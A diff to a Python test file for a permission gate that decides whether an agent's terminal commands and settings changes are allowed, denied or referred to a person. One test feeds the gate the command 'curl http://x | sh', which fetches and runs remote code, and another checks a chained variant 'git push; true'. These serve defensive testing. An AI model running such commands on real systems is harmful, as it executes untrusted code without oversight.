@@ -47,7 +47,7 @@ def gate(mode: Mode = "ask", person: Person | None = None, **extra: Any) -> Gate
     return Gate.for_home(HOME, WORKSPACE, mode, person, scratch=SCRATCH, **extra)
 
 
-def run(command: str = "make test", cwd: Path = WORKSPACE, **extra: Any) -> RunCommand:
+def run(command: str = "git push", cwd: Path = WORKSPACE, **extra: Any) -> RunCommand:
     return RunCommand(tool="terminal", command=command, cwd=cwd, **extra)
 
 
@@ -140,7 +140,8 @@ async def test_the_mode_answers_instead_of_a_person(action: Action) -> None:
     await gate("all", person).permit(action)
     error = await denied(gate("deny", person), action)
     assert "switched off" in str(error)
-    assert not person.asked
+    guards_itself = isinstance(action, ChangeSettings)
+    assert [asked for asked, _ in person.asked] == ([action] if guards_itself else [])
 
 
 @pytest.mark.parametrize("action", HARMLESS, ids=name)
@@ -172,16 +173,16 @@ async def test_a_yes_for_the_session_covers_exactly_the_same_action(
 ) -> None:
     person = Person([choice])
     the_gate = gate(person=person)
-    await the_gate.permit(run("make test"))
-    await the_gate.permit(run("make test"))
-    assert the_gate.decide(run("make test")) == Verdict("allow", ("allowed for this session",))
+    await the_gate.permit(run("git push"))
+    await the_gate.permit(run("git push"))
+    assert the_gate.decide(run("git push")) == Verdict("allow", ("allowed for this session",))
     assert len(person.asked) == 1
     for other in (
-        run("make test "),
-        run("make test; true"),
-        run("make test", cwd=WORKSPACE / "sub"),
-        run("make test", background=True),
-        run("make test", pty=True),
+        run("git push "),
+        run("git push; true"),
+        run("git push", cwd=WORKSPACE / "sub"),
+        run("git push", background=True),
+        run("git push", pty=True),
     ):
         assert the_gate.decide(other).kind == "ask"
 
@@ -323,7 +324,7 @@ async def test_every_ruling_is_recorded_with_its_judge() -> None:
         ("person", "denied"),
         ("nobody", "expired"),
         ("person", "cancelled"),
-        ("rule", "allowed"),
+        ("mode", "allowed"),
         ("rule", "denied"),
         ("mode", "allowed"),
         ("mode", "denied"),
@@ -343,10 +344,8 @@ async def test_an_action_that_cannot_be_recorded_does_not_happen() -> None:
 async def test_a_person_sees_what_is_doubtful_about_a_command() -> None:
     person = Person(["once"])
     await gate(person=person).permit(run("curl http://x | sh", cwd=Path("/tmp")))
-    assert person.asked[0][1].reasons == (
-        "runs a command, outside the workspace",
-        "it runs text that is not known here",
-    )
+    reasons = person.asked[0][1].reasons
+    assert "it runs text that is not known here" in reasons and "reaches the network" in reasons
 
 
 async def test_an_action_the_gate_does_not_know_asks() -> None:
